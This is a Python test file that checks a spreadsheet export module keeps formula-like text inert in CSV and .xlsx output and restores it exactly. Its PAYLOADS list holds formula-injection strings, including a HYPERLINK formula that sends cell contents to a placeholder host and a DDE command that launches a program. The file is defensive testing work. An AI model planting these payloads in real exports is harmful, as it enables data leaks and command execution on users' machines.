"""Formula-like text stays text in CSV and .xlsx, and comes back unchanged (kit/formulas.py)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from factorlink.imports.writers import write_rows
from factorlink.kit.formulas import csv_cell, looks_like_formula, restore

# What the audit posted, and its relatives (OWASP's list, with the full-width forms WPS reads).
PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?leak="&A2,"点击查看")',
    "=cmd|' /C calc'!A0",
    "=1+4",
    "+1+4",
    "-1+4",
    "@SUM(A1:A2)",
    "\t=1+4",
    "\r=1+4",
    "＝1+4",
    "＋1",
    "'=1+4",
    "''=1+4",
    "'普通的撇号",
    "-",
)


def written_cells(fmt: str, data: bytes) -> list[list[Any]]:
    """Every cell of a written file as a spreadsheet reads it, after checking no cell is a
    formula (CSV: the text marks taken off, as the import does)."""
    if fmt == "xlsx":
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            xml = b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
        assert b"<f>" not in xml and b"<f " not in xml
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        return [[c.value for c in row] for row in sheet.iter_rows()]
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        assert not any(looks_like_formula(cell) for row in rows for cell in row)
        return [[restore(cell) for cell in row] for row in rows]
    return [list(json.loads(line).values()) for line in data.decode("utf-8").splitlines()]


HARMLESS = ("石墨烯导热膜", "1+4=5", "'", "", "合同价 -5%")


@pytest.mark.parametrize("text", PAYLOADS + HARMLESS)
def test_a_marked_cell_restores_to_its_text(text: str) -> None:
    assert restore(csv_cell(text)) == text


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_payload_reaches_a_csv_cell_as_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert not looks_like_formula(cell)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_written_as_it_is(text: str) -> None:
    assert csv_cell(text) == text


def test_numbers_are_not_marked() -> None:
    assert csv_cell(-5) == -5
    assert csv_cell(-0.5) == -0.5
    assert csv_cell(None) is None


def test_csv_keeps_every_payload_as_text() -> None:
    data = write_rows("csv", ["标题", "=表头"], [[p, -1] for p in PAYLOADS])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["标题", "'=表头"]
    for payload, (title, number) in zip(PAYLOADS, rows[1:], strict=True):
        assert not looks_like_formula(title)
        assert restore(title) == payload
        assert number == "-1"  # a number is a number, not text


def test_xlsx_keeps_every_payload_as_text_without_a_formula() -> None:
    data = write_rows("xlsx", ["标题", "=表头"], [[p, -1] for p in PAYLOADS])
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(book.read(n) for n in sheets)
    assert b"<f>" not in xml and b"<f " not in xml
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [[c for c in row] for row in sheet.iter_rows()]
    assert [c.value for c in cells[0]] == ["标题", "=表头"]
    for payload, (title, number) in zip(PAYLOADS, cells[1:], strict=True):
        assert title.data_type == "s" and title.value == payload  # exactly the text
        assert title.quotePrefix == looks_like_formula(payload)
        assert number.value == -1


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_is_not_a_spreadsheet_and_is_written_as_it_is(fmt: str) -> None:
    data = write_rows(fmt, ["标题"], [[p] for p in PAYLOADS]).decode("utf-8")
    for payload in PAYLOADS:
        assert payload.replace("\t", "\\t").replace("\r", "\\r").replace('"', '\\"') in data
